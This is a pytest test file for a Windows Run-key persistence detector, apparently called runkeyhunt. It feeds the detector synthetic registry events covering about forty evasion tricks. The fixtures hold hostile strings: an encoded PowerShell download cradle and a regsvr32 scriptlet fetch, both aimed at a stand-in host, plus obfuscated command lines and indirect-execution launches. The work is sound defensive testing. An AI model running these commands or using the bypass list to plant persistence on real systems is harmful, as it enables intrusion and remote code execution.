"""Each known way to slip past a Run-key search is caught, or stands in the README as out of reach."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

import pytest

from runkeyhunt.hunt import Hunt

STORED = base64.b64encode(
    ("IEX (New-Object Net.WebClient).DownloadString('http://h.example/a'); " * 3).encode("utf-16-le")
).decode()
U = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion"
M = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion"
REG = r"C:\Windows\System32\reg.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
SCRIPT = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')".encode("utf-16-le")
).decode()


def value(
    data: str, target: str = U + r"\Run\Agent", image: str = r"C:\Users\anna\AppData\Local\Temp\a.exe", **more: str
) -> dict[str, str]:
    return {"EventCode": "13", "EventType": "SetValue", "TargetObject": target, "Details": data, "Image": image, **more}


def file(path: str, image: str) -> dict[str, str]:
    return {"EventCode": "11", "TargetFilename": path, "Image": image}


# Bypass, what is written, the rule (or location) that catches it, the least score.
CAUGHT: list[tuple[str, dict[str, Any], str, int]] = [
    (
        "B1 value renamed into Run",
        {"EventCode": "14", "EventType": "RenameValue", "TargetObject": U + r"\Run\a", "NewName": U + r"\Run\b", "Image": REG},
        "renamed_into_autostart",
        60,
    ),
    (
        "B1 key renamed to Run",
        {"EventCode": "14", "EventType": "RenameKey", "TargetObject": U + r"\Run-", "NewName": U + r"\Run", "Image": REG},
        "renamed_into_autostart",
        60,
    ),
    ("B3 mandatory profile dropped", file(r"C:\Users\anna\NTUSER.MAN", POWERSHELL), "MandatoryProfile", 60),
    ("B4 hive loaded under another name", value(r"C:\ProgramData\a.exe", r"HKU\tmp\Software\Microsoft\Windows\CurrentVersion\Run\a"), "mounted_hive", 60),
    ("B4 user's hive below HKLM", value(r"C:\ProgramData\a.exe", r"HKLM\tmp\Software\Microsoft\Windows\CurrentVersion\Run\a"), "mounted_hive", 60),
    ("B5 name that begins with NUL", value(r"C:\Program Files\A\a.exe", M + "\\Run\\", r"C:\Program Files\A\a.exe"), "hidden_value_name", 60),
    ("B6 default value", value(r"rundll32 shell32.dll,ShellExec_RunDLL C:\ProgramData\a.exe", U + r"\Run\(Default)"), "default_value", 60),
    ("B7 library of RunOnceEx", value(r"C:\ProgramData\a.dll", M + r"\RunOnceEx\0001\Depend\1"), "runonceex_library", 60),
    ("B8 RunOnce in Safe Mode", value(r"C:\ProgramData\A\a.exe", U + r"\RunOnce\*agent"), "safe_mode_name", 60),
    ("B8 RunOnce deleted after success", value(r"C:\ProgramData\A\a.exe", U + r"\RunOnce\!agent"), "deferred_delete_name", 40),
    ("B9 letter case and forward slashes", value("c:/USERS/public/A.EXE"), "payload_in_public_folder", 60),
    ("B9 device prefix", value(r"\\?\C:\Users\Public\a.exe"), "device_path", 60),
    ("B9 dots", value(r"C:\Program Files\..\Users\Public\a.exe"), "payload_in_public_folder", 60),
    ("B9 variable", value(r"%PUBLIC%\a.exe"), "payload_in_public_folder", 60),
    ("B9 short name", value(r"C:\Users\anna\LOCALS~1\Temp\a.exe"), "payload_in_user_temp", 60),
    ("B10 doubled percent signs", value(r"%%TEMP%%\a.exe"), "payload_in_user_temp", 60),
    ("B11 carets", value(f"cmd /c p^o^w^e^r^shell -e^n^c {SCRIPT}"), "powershell_encoded_command", 80),
    ("B11 quotes", value(f'cmd /c p"ow"ersh"el"l -enc {SCRIPT}'), "powershell_encoded_command", 80),
    ("B12 substring of a variable", value(r"%comspec:~0,1%md /c start C:\ProgramData\a.exe"), "obfuscation_variable_substring", 60),
    ("B13 pcalua", value(r"pcalua.exe -a C:\ProgramData\a.exe"), "indirect_command_execution", 60),
    ("B13 forfiles", value(r'forfiles /p C:\Windows /m notepad.exe /c "C:\ProgramData\a.exe"'), "indirect_command_execution", 60),
    ("B13 conhost", value(r"conhost.exe --headless C:\ProgramData\a.exe"), "indirect_command_execution", 60),
    ("B13 explorer", value(r"explorer.exe /root,C:\ProgramData\a.exe"), "explorer_opens_program", 60),
    ("B14 payload in another value", value(r'powershell -w hidden "$x=(gp HKCU:\Software\A D).D; iex $x"'), "registry_resident_payload", 60),
    ("B14 the other value", value(STORED, U + r"\Debug"), "StoredPayload", 60),
    ("B15 borrowed suffix", value(r"X:\evil\Discord\Update.exe --processStart Discord.exe", U + r"\Run\Discord"), "baseline_collision", 60),
    ("B16 known name, new data", value(r"C:\Users\anna\AppData\Roaming\a.exe", U + r"\Run\OneDrive"), "baseline_collision", 60),
    ("B17 binary data", value("Binary Data", U + r"\Run\Agent", REG), "binary_data", 60),
    ("B20 no data", {**value("", U + r"\Run\Agent", POWERSHELL)}, "missing_details", 60),
    ("B22 the kernel's spelling", value(r"%TEMP%\a.exe", r"\REGISTRY\USER\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\a"), "payload_in_user_temp", 60),
    ("B23 WMI", value(r"C:\ProgramData\A\a.exe", image=r"C:\Windows\System32\wbem\WmiPrvSE.exe"), "writer_remote", 60),
    ("B23 Remote Registry", value(r"C:\Windows\a.exe", M + r"\Run\a", r"C:\Windows\System32\svchost.exe", User=r"NT AUTHORITY\LOCAL SERVICE"), "writer_remote_registry", 60),
    ("B24 Windows Installer as writer", value(r"mshta.exe C:\ProgramData\a.hta", M + r"\Run\a", r"C:\Windows\System32\msiexec.exe"), "installer_registers_odd_payload", 60),
    ("B26 terminal server's install mode", value(r"C:\ProgramData\A\a.exe", r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Run\a"), "TerminalServerRun", 60),
    ("B26 RunEx", value(r"C:\ProgramData\A\a.exe", M + r"\RunEx\a\b"), "RunEx", 60),
    ("B28 Startup folder redirected", value(r"C:\ProgramData\Start", U + r"\Explorer\User Shell Folders\Startup", REG), "startup_folder_redirected", 60),
    ("B29 program without a folder", value("rundll32.exe agent.dll,Start", image=REG), "rundll32_library_without_folder", 60),
    ("B33 the key made a link", value("Binary Data", U + r"\Run\SymbolicLinkValue"), "link_value", 80),
    ("B34 right-to-left override", value("C:\\ProgramData\\A\\agent\u202eexe.txt"), "bidi_override", 60),
    ("B34 invisible characters", value("C:\\ProgramData\\A\\agent\u200b.exe"), "invisible_characters", 60),
    ("B38 a program that Microsoft signed", value(r"regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll"), "regsvr32_scriptlet", 80),
    ("B41 written as SYSTEM", value(r"C:\ProgramData\A\a.exe", User=r"NT AUTHORITY\SYSTEM"), "system_writes_user_hive", 40),
]  # fmt: skip
DIALECTS: list[tuple[str, dict[str, Any]]] = [
    ("B18 brackets in CIM data", {"_raw": "x", "EventCode": "13", "registry_path": U + r"\Run\a", "Details": "powershell (calc)", "registry_value_data": "calc"}),
    ("B19 entities", {"EventCode": "13", "registry_path": U + r"\Run\a", "registry_value_data": "powershell &quot;a &amp; b&quot;"}),
    ("B20 line end in the data", {"EventCode": "13", "TargetObject": U + r"\Run\a", "_raw": f"<Event><System><EventID>13</EventID></System><EventData><Data Name='TargetObject'>{U}\\Run\\a</Data><Data Name='Details'>powershell\nx</Data></EventData></Event>"}),
    ("B21 bracket in the name", {"EventCode": "13", "TargetObject": U + r"\Run\a (b)", "Details": "powershell x"}),
    ("B37 Security 4657", {"EventCode": "4657", "ObjectName": U + r"\Run", "ObjectValueName": "a", "NewValue": "powershell x"}),
]  # fmt: skip
OUT_OF_REACH = ("B2", "B25", "B30", "B31", "B32", "B33", "B35", "B36", "B39")


@pytest.fixture(scope="module")
def hunt(app_dir: Path) -> Hunt:
    return Hunt.load(app_dir)


@pytest.mark.parametrize(("event", "caught_by", "least"), [row[1:] for row in CAUGHT], ids=[row[0] for row in CAUGHT])
def test_caught(hunt: Hunt, event: dict[str, Any], caught_by: str, least: int) -> None:
    verdict = hunt.judge(event)
    assert verdict is not None
    assert caught_by in (*verdict.rules, verdict.location)
    assert verdict.score >= least


@pytest.mark.parametrize("event", [row[1] for row in DIALECTS], ids=[row[0] for row in DIALECTS])
def test_the_field_dialect_hides_nothing(hunt: Hunt, event: dict[str, Any]) -> None:
    verdict = hunt.judge(event)
    assert verdict is not None
    assert "powershell_autostart" in verdict.rules


@pytest.mark.parametrize(
    ("target", "details"),
    [
        (U + r"\RunNotification\StartupTNotia", "DWORD (0x00000001)"),
        (U + r"\Explorer\StartupApproved\Run\a", "Binary Data"),
    ],
)
def test_b27_and_b40_are_named_but_raise_no_alarm(hunt: Hunt, target: str, details: str) -> None:
    verdict = hunt.judge(value(details, target))
    assert verdict is not None
    assert verdict.score <= 5


@pytest.mark.parametrize("bypass", OUT_OF_REACH)
def test_what_is_out_of_reach_is_said(app_dir: Path, bypass: str) -> None:
    text = (app_dir / "bin" / "runkeyhunt" / "rules" / "README.md").read_text(encoding="utf-8")
    assert f"{bypass}:" in text
